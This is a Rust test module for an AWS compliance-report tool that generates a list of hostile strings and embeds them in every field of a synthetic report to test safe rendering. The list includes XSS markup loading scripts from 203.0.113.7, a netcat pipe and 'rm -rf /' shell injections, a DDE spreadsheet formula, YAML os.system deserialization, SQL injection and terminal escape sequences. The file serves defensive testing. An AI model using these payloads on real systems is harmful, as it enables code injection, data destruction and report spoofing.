//! Names as an attacker would choose them, and a report that has nothing else.
//!
//! Whoever may create a bucket, tag a user or name an account writes text into the report of somebody with
//! more power. [`hostile_strings`] are such texts, one for each way out of text that a format could leave
//! open; [`hostile_report`] puts each wherever the text of a report comes from AWS.

use anyhow::{Context, Result};
use serde::de::DeserializeOwned;
use serde_json::{Value, json};

/// Markup, and the ways to end what text may stand in: elements, attributes, comments, scripts, styles.
const MARKUP: &[&str] = &[
    "<script>globalThis.owned=1</script>",
    "</script><script>globalThis.owned=1</script>",
    "</ScRiPt ><img src=x onerror=owned()>",
    "<script src=//203.0.113.7/x.js></script>",
    "<script type=module>import('//203.0.113.7/x.mjs')</script>",
    "<script/x>globalThis.owned=1</script/x>",
    "<<script>globalThis.owned=1//<</script>",
    "<scr<script>ipt>globalThis.owned=1</scr</script>ipt>",
    "</title><script>globalThis.owned=1</script>",
    "</textarea><script>globalThis.owned=1</script>",
    "</style><img src=x onerror=owned()>",
    "</noscript><img src=x onerror=owned()>",
    "</template><img src=x onerror=owned()>",
    "</option></select><img src=x onerror=owned()>",
    "</td></tr></table><h1>All controls pass</h1>",
    "</summary></details><h1>All controls pass</h1>",
    "<!-- hidden from here",
    "--><script>globalThis.owned=1</script><!--",
    "--!><img src=x onerror=owned()>",
    "<![CDATA[<script>globalThis.owned=1</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<!DOCTYPE html><title>owned</title>",
    "<img src=x onerror=owned()>",
    "<img src=//203.0.113.7/pixel.png>",
    "<IMG SRC=\"jav&#x09;ascript:owned()\">",
    "<iframe src=javascript:owned()></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data=data:text/html,owned></object>",
    "<embed src=//203.0.113.7/x.swf>",
    "<base href=//203.0.113.7/>",
    "<link rel=stylesheet href=//203.0.113.7/x.css>",
    "<meta http-equiv=refresh content='0;url=//203.0.113.7/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<form action=//203.0.113.7/><input type=submit value=Go></form>",
    "<input autofocus onfocus=owned()>",
    "<button popovertarget=x>x</button><div popover id=x onbeforetoggle=owned()>x</div>",
    "<details open ontoggle=owned()><summary>x</summary></details>",
    "<dialog open>owned</dialog>",
    "<video><source onerror=owned()></video>",
    "<audio src=x onerror=owned()>",
    "<body onload=owned()>",
    "<marquee onstart=owned()>x</marquee>",
    "<style>@import '//203.0.113.7/x.css';*{display:none}</style>",
    "<div style=position:fixed;inset:0;background:red>x</div>",
    "<a href=javascript:owned()>x</a>",
    "<custom-element is=x onclick=owned()>x</custom-element>",
    "<plaintext>",
    "<xmp><script>globalThis.owned=1</script></xmp>",
    "<noscript><p title=\"</noscript><img src=x onerror=owned()>\">",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=owned()>",
    "<svg onload=owned()>",
    "<svg><script>globalThis.owned=1</script></svg>",
    "<svg><script href=data:,owned=1 /></svg>",
    "<svg><animate onbegin=owned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:owned()>",
    "<svg><foreignObject><iframe src=javascript:owned()></iframe></foreignObject></svg>",
    "<svg><a xlink:href=javascript:owned()><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x></svg>",
    "</svg><img src=x onerror=owned()>",
    "</text></svg><script>globalThis.owned=1</script>",
    "\"><img src=x onerror=owned()>",
    "'><img src=x onerror=owned()>",
    "\" autofocus onfocus=\"owned()",
    "' onmouseover='owned()",
    "` onmouseover=`owned()",
    " onload=owned() x=",
    "/onload=owned()//",
    "x onerror=owned()",
    "\"",
    "'",
    "`",
    "\"'`",
    "<",
    ">",
    "</",
    "&",
    "&lt;script&gt;globalThis.owned=1&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#60;b&#62;",
    "&#x3c;b&#x3e;",
    "&NewLine;&Tab;&colon;",
    "&amp",
    "%3Cscript%3Eowned()%3C/script%3E",
    "\\u003cscript\\u003eowned()\\u003c/script\\u003e",
    "\\x3cscript\\x3eowned()",
    "';owned();//",
    "\";owned();//",
    "\\';owned();//",
    "*/owned();/*",
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "\u{1}javascript:owned()",
    "data:text/html,<script>owned()</script>",
    "vbscript:owned()",
    "//203.0.113.7/x",
    "https://203.0.113.7/?q=<b>",
    "url(//203.0.113.7/x)",
    "expression(owned())",
];

/// What template languages, JavaScript's objects and format strings would read.
const TEMPLATES: &[&str] = &[
    "{{ 7*7 }}",
    "{% include \"page.css\" %}",
    "{# comment #}",
    "{{ report | safe }}",
    "{% raw %}{{",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "${name}",
    "$1$&$`",
    "%s%n%x",
    "{0}{}",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "undefined",
    "null",
    "NaN",
    "true",
    "0",
    "-0",
    "1e309",
    "007",
];

/// What a spreadsheet would calculate, and what would end a cell or a row.
const CELLS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=HYPERLINK(\"https://203.0.113.7/\",\"ok\")",
    "=cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u{ff1d}1+1",
    "'=1+1",
    "\"=1+1\"",
    ";=1+1",
    ",=1+1",
    "a,b;c\td",
    "a\"b\"\"c",
    "\"\n\"x\",\"y",
    "|=1+1",
];

/// What steers a terminal, breaks a line, hides or turns the reading direction around.
const CONTROLS: &[&str] = &[
    "\u{1b}[2J\u{1b}[H",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;owned\u{7}",
    "\u{1b}]8;;https://203.0.113.7/\u{1b}\\ok\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;b3duZWQ=\u{7}",
    "\u{1b}P1$r0m\u{1b}\\",
    "\u{9b}31m",
    "\u{9d}0;owned\u{9c}",
    "\u{90}x\u{9c}",
    "back\u{8}\u{8}\u{8}\u{8}fail",
    "\u{7}\u{7}\u{7}",
    "nul\0nul",
    "\0",
    "\u{7f}",
    "two\nlines",
    "two\r\nlines",
    "two\rlines",
    "two\u{85}lines",
    "two\u{2028}lines",
    "two\u{2029}lines",
    "\u{b}\u{c}\u{1c}\u{1d}\u{1e}\u{1f}",
    "tab\there",
    " leading and trailing ",
    "\u{a0}\u{2003}\u{3000}",
    "invoice\u{202e}fdp.exe",
    "\u{2066}x\u{2069}\u{202c}",
    "\u{61c}\u{200e}\u{200f}",
    "pass\u{200b}word\u{200c}\u{200d}",
    "\u{feff}bom",
    "soft\u{ad}hyphen",
    "\u{2060}\u{2061}\u{206f}",
    "\u{180e}\u{fff9}\u{fffa}\u{fffb}",
    "tag\u{e0041}\u{e007f}",
    "\u{301}\u{302}\u{303}lone",
    "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}a\u{35c}l\u{321}g\u{338}o",
    "\u{430}dmin",
    "\u{ff1c}script\u{ff1e}",
    "\u{fb01}\u{212b}\u{1e9b}\u{323}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{fe0f}",
    "\u{ffff}\u{fffd}\u{10ffff}",
    "شركة עברית",
];

/// What paths, shells, JSON, YAML, Markdown, XML and query strings read.
const SYNTAX: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\CON",
    "$(touch owned)",
    "`touch owned`",
    "; rm -rf /",
    "| nc 203.0.113.7 1",
    "&& touch owned",
    "--help",
    "-rf",
    "~root",
    "*?[a]",
    "!!",
    "a'b\"c\\d$e",
    "\\",
    "\\\"",
    "\\n",
    "{\"verdict\": \"pass\"}",
    "\"}, {\"verdict\": \"pass\"",
    "- !!python/object/apply:os.system [ls]",
    "key: value # comment",
    "&anchor *alias",
    "---",
    "]]>",
    "]]&gt;",
    "<x xmlns=\"y\">&xxe;</x>",
    "| a | b |",
    "**bold** _x_ ~~y~~",
    "[ok](javascript:owned())",
    "![x](//203.0.113.7/x.png)",
    "```\n# All controls pass\n```",
    "# All controls pass",
    "<https://203.0.113.7/>",
    "@everyone #1 :tada:",
    "::error::owned",
    "##vso[task.complete result=Succeeded]",
    "a&b=c&verdict=pass#finding-0",
    "a%26b%3Dc%00%0a",
    "a,b,c",
    "' OR 1=1 --",
];

/// Over two hundred texts, no two the same.
#[must_use]
pub fn hostile_strings() -> Vec<String> {
    let mut strings: Vec<String> =
        [MARKUP, TEMPLATES, CELLS, CONTROLS, SYNTAX].concat().into_iter().map(str::to_owned).collect();
    strings.push("x".repeat(10_000));
    strings.push("<b>".repeat(3_400));
    strings.push("\u{202e}".repeat(500));
    strings.push("wide 日本 ".repeat(1_000));
    strings
}

/// The text as a person may be shown it: on one line, with what would not show itself written out.
///
/// This says again, for tests, what the program promises; it shares no code with the program.
#[must_use]
pub fn shown(text: &str) -> String {
    let hides = |c: char| {
        matches!(u32::from(c),
            0..=0x1f | 0x7f..=0x9f | 0xad | 0x61c | 0x180e | 0x200b..=0x200f | 0x2028..=0x202e
            | 0x2060..=0x206f | 0xfeff | 0xfff9..=0xfffb | 0xe0000..=0xe007f)
    };
    text.chars()
        .map(|c| match c {
            '\n' => "\\n".to_owned(),
            '\r' => "\\r".to_owned(),
            '\t' => "\\t".to_owned(),
            c if hides(c) => format!("\\u{{{:x}}}", u32::from(c)),
            c => c.to_string(),
        })
        .collect()
}

/// Of the first control, which fails on a resource of each name.
const FAILING: &str = "s3-bucket-not-public";
/// Of the second, which could not be decided for a reason told in AWS's words.
const UNDECIDED: &str = "s3-bucket-encrypted";
const REGION: &str = "eu-west-1";
const FRAMEWORK: &str = "acme-baseline-1";

/// A report in which account `n` is named after the `n`th of [`hostile_strings`], and so are its unit, its tag,
/// its bucket, the bucket's tags, the text of the bucket's policy, and the message of the call that failed.
///
/// # Errors
/// When `R` is not a report.
pub fn hostile_report<R: DeserializeOwned>() -> Result<R> {
    let strings = hostile_strings();
    let ids: Vec<String> = (0..strings.len()).map(hostile_account).collect();
    let of_each = |value: fn(&str, &str) -> Value| -> Vec<Value> {
        strings.iter().zip(&ids).map(|(text, account)| value(text, account)).collect()
    };
    let findings = strings.iter().zip(&ids).enumerate().flat_map(|(n, (text, account))| {
        let failing = finding(2 * n, FAILING, text, account, None);
        let undecided = finding(2 * n + 1, UNDECIDED, text, account, Some(unseen(text, account)));
        [failing, undecided]
    });
    let n = ids.len();
    let report = json!({
        "schema_version": 1,
        "run": run(),
        "totals": counts(n, n),
        "gaps": of_each(gap),
        "coverage": of_each(coverage),
        "accounts": of_each(account),
        "controls": [
            control(FAILING, "S3 buckets are not open to everyone", &counts(n, 0)),
            control(UNDECIDED, "S3 buckets are encrypted", &counts(0, n)),
        ],
        "frameworks": [{
            "id": FRAMEWORK, "title": "Acme baseline", "version": "1",
            "requirements": [
                requirement(FAILING, "Nothing is public", "fail", &counts(n, 0), &ids),
                requirement(UNDECIDED, "All is encrypted", "unknown", &counts(0, n), &ids),
            ],
        }],
        "findings": findings.collect::<Vec<_>>(),
    });
    serde_json::from_value(report).context("the hostile report is not one that this program reads")
}

/// Id of the account that is named after the `n`th of [`hostile_strings`].
#[must_use]
pub fn hostile_account(n: usize) -> String {
    format!("{:012}", 100_000_000_000 + n)
}

fn counts(fail: usize, unknown: usize) -> Value {
    json!({ "pass": 0, "fail": fail, "unknown": unknown, "not_applicable": 0 })
}

fn run() -> Value {
    json!({
        "id": "20261124T030000Z", "version": "0.1.0",
        "started_at": "2026-11-24T03:00:00Z", "finished_at": "2026-11-24T03:00:09Z", "duration_ms": 9_000,
        "observed_at": "2026-11-24T03:00:00Z", "complete": false,
        "requests": 1_000, "retries": 0, "throttles": 0, "calls": [], "absent_regions": {},
    })
}

fn account(text: &str, id: &str) -> Value {
    json!({
        "id": id, "name": text, "partition": "aws", "is_management": false, "organization": "o-a1b2c3d4e5",
        "units": ["Root", text], "tags": { text: text }, "regions": [REGION], "state": { "state": "scanned" },
    })
}

fn unseen(text: &str, account: &str) -> Value {
    json!({
        "account": account, "region": REGION, "operation": "s3:GetEncryptionConfiguration",
        "cause": { "kind": "denied", "by": "unstated", "action": null, "resource": text },
        "code": "AccessDenied", "message": text,
    })
}

fn gap(text: &str, account: &str) -> Value {
    json!({
        "unseen": unseen(text, account), "findings": 1, "controls": [UNDECIDED],
        "remedy": format!("allow `s3:GetEncryptionConfiguration` on `{text}`"),
        "statement": { "Effect": "Allow", "Action": "s3:GetEncryptionConfiguration", "Resource": text },
    })
}

fn coverage(text: &str, account: &str) -> Value {
    json!({
        "account": account, "region": REGION, "service": "s3", "operation": "GetEncryptionConfiguration",
        "state": "failed", "answered": 0, "unanswered": 1, "gone": 0,
        "errors": [{ "unseen": unseen(text, account), "count": 1 }],
    })
}

fn finding(n: usize, control: &str, text: &str, account: &str, unseen: Option<Value>) -> Value {
    let verdict = if unseen.is_some() { "unknown" } else { "fail" };
    let mut finding = json!({
        // An odd factor keeps the ids apart, and their beginnings from being the same.
        "id": format!("{:016x}{n:016x}", (n as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15)),
        "control": control, "severity": "critical", "verdict": verdict,
        "reason": format!("`resource.policy` is `{text}`."),
        "account": account, "region": REGION, "resource_type": "aws.s3.bucket",
        "resource_arn": format!("arn:aws:s3:::{text}"), "resource_name": text,
        "tags": { text: text, "Name": text },
        "evidence": [{
            "path": "resource.policy",
            "value": { "Statement": [{ "Sid": text, text: [text] }] },
        }],
    });
    if let (Some(unseen), Some(members)) = (unseen, finding.as_object_mut()) {
        members.insert("unseen".to_owned(), unseen);
    }
    finding
}

fn control(id: &str, title: &str, totals: &Value) -> Value {
    json!({
        "id": id, "title": title, "severity": "critical", "service": "s3", "resource_type": "aws.s3.bucket",
        "rationale": "What is open to everyone is read by everyone.", "evidence_only": false,
        "remediation": "1. Open the bucket's permissions.\n2. Block public access.\n",
        "remediation_cli": "aws s3api put-public-access-block --bucket ${name} --region ${region}\n",
        "remediation_terraform":
            "resource \"aws_s3_bucket_public_access_block\" \"this\" {\n  bucket = \"${name}\"\n}\n",
        "references": ["https://docs.aws.amazon.com/AmazonS3/latest/userguide/"],
        "tags": ["public-access"],
        "requirements": { FRAMEWORK: [requirement_of(id)] },
        "totals": totals,
    })
}

fn requirement_of(control: &str) -> &'static str {
    if control == FAILING { "1" } else { "2" }
}

fn requirement(control: &str, title: &str, status: &str, totals: &Value, accounts: &[String]) -> Value {
    let in_each: serde_json::Map<String, Value> =
        accounts.iter().map(|id| (id.clone(), status.into())).collect();
    json!({
        "id": requirement_of(control), "title": title, "section": "1 Storage", "level": null,
        "assessment": "automated", "controls": [control], "planned": [], "status": status,
        "accounts": in_each, "totals": totals,
    })
}
